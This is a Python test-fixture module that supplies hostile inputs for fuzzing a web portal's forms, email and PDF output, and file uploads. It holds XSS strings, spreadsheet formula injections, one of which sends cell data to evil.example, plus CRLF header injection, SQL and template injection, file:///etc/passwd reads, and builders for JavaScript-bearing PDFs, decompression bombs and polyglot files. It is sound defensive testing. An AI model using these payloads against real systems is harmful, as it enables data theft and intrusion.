"""Hostile input: strings for every kind of output a field can reach, and files that are not what they say.

Shared by the form fuzzing (``tests/integration/test_fuzz_forms.py``), the injection checks
(``test_injection_outputs.py``) and the upload checks (``test_hostile_uploads.py``).
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

from hypothesis import strategies as st

#: Markers that would be live markup if any page, email or PDF printed them unescaped.
SCRIPT = "<script>alert('rd-xss')</script>"
IMG = '"><img src=x onerror=rdxss(1)>'
#: Spreadsheet formulas: a cell starting with = + - @ (or a tab or CR) is run by Excel and LibreOffice.
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
#: Header injection: a new line in a value that reaches an email header adds a header of the attacker's.
CRLF = ["victim@example.org\r\nBcc: everyone@example.org", "Subject line\r\nBcc: everyone@example.org",
        "a@example.org\nX-Injected: 1", "a@example.org%0d%0aBcc:x@example.org"]
#: What a PDF renderer (WeasyPrint) or an HTML email might follow or execute.
RENDERER = ['<link rel="attachment" href="file:///etc/passwd">', '<img src="file:///etc/passwd">',
            "<style>@import url(http://127.0.0.1:6379/)</style>", '<iframe src="javascript:alert(1)">',
            "<a href='javascript:alert(1)'>x</a>", "url(file:///etc/passwd)"]
OTHER = ["' OR '1'='1", "'); DROP TABLE requests;--", "{{ 7*7 }}", "{% debug %}", "${7*7}", "../../etc/passwd",
         "\x00", "\u202egnp.exe", "\ufeff", "\u0000\u0001\u001f", "😀" * 50, "A" * 5000, "9" * 40, "-1", "0",
         "1e308", "NaN", "2026-02-30", "31/02/2026", " ", "\n\n", "null", "[]", "{}", "%s%s%n", "<!--", "]]>"]
HOSTILE = [SCRIPT, IMG, *FORMULAS, *CRLF, *RENDERER, *OTHER]


def hostile_text() -> st.SearchStrategy[str]:
    """A value for any text box: hostile strings, arbitrary unicode, numbers, and mixtures of them."""
    return st.one_of(
        st.sampled_from(HOSTILE),
        st.text(max_size=80),
        st.integers(min_value=-(10**30), max_value=10**30).map(str),
        st.tuples(st.sampled_from(HOSTILE), st.text(max_size=20)).map(lambda t: t[1] + t[0]),
        st.just(""),
    )


def markup_leaked(html: str) -> list[str]:
    """Hostile markup that came back live (unescaped) in a page, an email or a PDF's source."""
    return [m for m in (SCRIPT, "<img src=x onerror=rdxss(1)>", "<iframe src=\"javascript", "<link rel=\"attachment\"")
            if m in html]


# ------------------------------------------------------------------------------------------- files


def real_pdf(text: str = "Passport, page 1") -> bytes:
    from weasyprint import HTML

    return HTML(string=f"<p>{text}</p>").write_pdf()


def pdf_with_javascript(*, packed: bool = False, escaped: bool = False) -> bytes:
    """A real PDF that runs JavaScript when opened; ``packed`` hides it in a compressed object stream,
    ``escaped`` spells the names with #xx escapes (``/J#53``), as malware does to dodge byte scans."""
    import pikepdf

    pdf = pikepdf.open(io.BytesIO(real_pdf()))
    action = pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)")))
    pdf.Root.OpenAction = action
    out = io.BytesIO()
    pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate if packed else pikepdf.ObjectStreamMode.disable,
             compress_streams=True)
    data = out.getvalue()
    if escaped:
        data = data.replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS ", b"/J#53 ")
    return data


def pdf_with_embedded_file() -> bytes:
    import pikepdf

    pdf = pikepdf.open(io.BytesIO(real_pdf()))
    pdf.attachments["payload.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ" + bytes(100), filename="payload.exe")
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def real_png(width: int = 4, height: int = 4) -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (width, height), "white").save(out, "PNG")
    return out.getvalue()


def real_jpeg() -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (8, 8), "white").save(out, "JPEG")
    return out.getvalue()


def _chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body) & 0xFFFFFFFF)


def png_bomb(width: int = 50_000, height: int = 50_000) -> bytes:
    """A few hundred bytes whose header claims ``width`` x ``height`` pixels (gigabytes once decoded)."""
    rows = zlib.compress(b"\x00" * (width // 8 + 1) * 4, 9)  # a few rows of a 1-bit image; the rest is implied
    return (b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0))
            + _chunk(b"IDAT", rows) + _chunk(b"IEND", b""))


def png_with_script() -> bytes:
    """A valid PNG whose text chunk is a web page: an image to the portal, a page to anything that sniffs."""
    data = real_png()
    text = _chunk(b"tEXt", b"Comment\x00<html><script>alert(document.cookie)</script></html>")
    return data[:-12] + text + data[-12:]


def jpeg_zip_polyglot() -> bytes:
    """A JPEG with a zip archive appended (the GIFAR/JAR trick): an image, and also an archive."""
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as z:
        z.writestr("Exploit.class", b"\xca\xfe\xba\xbe" + bytes(64))
    return real_jpeg() + archive.getvalue()


def pdf_html_polyglot() -> bytes:
    return real_pdf()[:-6] + b"\n%<html><body><script>alert(1)</script></body></html>\n%%EOF\n"


EXE = (b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + bytes(200)
       + b"This program cannot be run in DOS mode")
HTML_PAGE = b"<!doctype html><html><body><script>alert(1)</script></body></html>"
